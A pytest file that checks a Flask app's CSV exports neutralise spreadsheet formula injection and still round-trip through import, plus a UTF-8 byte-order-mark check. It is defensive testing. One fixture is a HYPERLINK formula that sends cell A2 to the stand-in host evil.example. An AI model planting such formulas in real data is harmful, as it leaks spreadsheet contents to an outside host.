"""M6: CSV files the app writes never carry a live spreadsheet formula, and imports still read
the app's own exports back unchanged."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from matchmaker.accounts.models import Role
from matchmaker.core.spreadsheets import FORMULA_STARTS, neutralise_cell, restore_cell
from matchmaker.dashboard.services import TABLES
from matchmaker.extensions import db
from matchmaker.interchange.services import export_document
from tests.factories import make_listing, make_organisation, make_user

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
TRICKY_TEXTS = [
    FORMULA_TITLE,
    "+44 151 795 3000",
    "-1+2",
    "@SUM(A1:A3)",
    "\tHidden tab",
    "'=already quoted",
    "''=twice quoted",
    "'plain apostrophe",
    "Ordinary title",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    live = [cell for cell in _cells(text) if cell.startswith(FORMULA_STARTS)]
    assert live == []


@pytest.mark.parametrize("text", TRICKY_TEXTS)
def test_m6_neutralised_cells_read_back_exactly(text: str) -> None:
    written = neutralise_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert restore_cell(written) == text


def _formula_listing(**fields: Any) -> None:
    organisation = make_organisation(name="-Dash Cooperative")
    make_listing(organisation=organisation, title=FORMULA_TITLE, **fields)


@pytest.mark.parametrize("table", ["organisations", "contacts", "listings"])
def test_m6_interchange_csv_exports_hold_no_formula(
    client: FlaskClient, login: Any, table: str
) -> None:
    organisation = make_organisation(
        name="=1+1 Social Enterprise",
        contacts=[{"name": "@Ada", "position": "+Director", "email": "ada@example.org"}],
    )
    make_listing(organisation=organisation, title=FORMULA_TITLE)
    login(make_user(role=Role.COORDINATOR))
    response = client.get(f"/coordination/data/export/{table}.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    _assert_no_formula(text)
    assert any(cell.startswith("'=") or cell.startswith("'@") for cell in _cells(text))


def test_m6_dashboard_csv_holds_no_formula(client: FlaskClient, login: Any) -> None:
    _formula_listing()
    login(make_user(role=Role.COORDINATOR))
    for name in TABLES:
        response = client.get(f"/coordination/dashboard/{name}.csv")
        assert response.status_code == 200
        _assert_no_formula(response.get_data(as_text=True))
    unmet = client.get("/coordination/dashboard/unmet_needs.csv").get_data(as_text=True)
    assert "'" + FORMULA_TITLE in _cells(unmet)


def test_m6_csv_export_imports_back_unchanged_through_the_web(
    client: FlaskClient, login: Any, app: Flask
) -> None:
    organisation = make_organisation(name="-Dash Cooperative")
    for text in TRICKY_TEXTS[:-1]:
        make_listing(organisation=organisation, title=text.strip() + " listing")
    before = export_document()
    db.session.remove()
    login(make_user(role=Role.COORDINATOR))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        for table in ("organisations", "contacts", "listings"):
            text = client.get(f"/coordination/data/export/{table}.csv").get_data(as_text=True)
            _assert_no_formula(text)
            zipped.writestr(f"{table}.csv", text)
    archive.seek(0)
    response = client.post(
        "/coordination/data/import",
        data={"file": (archive, "tables.zip")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200, response.get_data(as_text=True)
    assert export_document() == before
    assert FORMULA_TITLE + " listing" in [entry["title"] for entry in before["listings"]]


def test_m6_cli_csv_export_holds_no_formula_and_imports_back(app: Flask, tmp_path: Path) -> None:
    _formula_listing()
    before = export_document()
    runner = app.test_cli_runner()
    result = runner.invoke(args=["data", "export", "--format", "csv", "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    for name in ("organisations", "contacts", "listings"):
        _assert_no_formula((tmp_path / f"{name}.csv").read_text())
    result = runner.invoke(args=["data", "import", str(tmp_path)])
    assert result.exit_code == 0, result.output
    assert "0 created, 0 updated" in result.output
    assert export_document() == before


@pytest.mark.parametrize(
    "url", ["/coordination/data/export/organisations.csv", "/coordination/dashboard/by_theme.csv"]
)
def test_csv_downloads_start_with_the_utf8_byte_order_mark(
    client: FlaskClient, login: Any, url: str
) -> None:
    """Excel reads a CSV as UTF-8 only with the mark: without it Greek and Arabic are garbled."""
    make_listing(
        organisation=make_organisation(name="Δήμος Αθηναίων", city="Αθήνα"),
        themes=("social-inclusion",),
    )
    login(make_user(role=Role.COORDINATOR))
    body = client.get(url).get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert not text.startswith("\ufeff")
    if "organisations" in url:
        assert "Δήμος Αθηναίων" in text
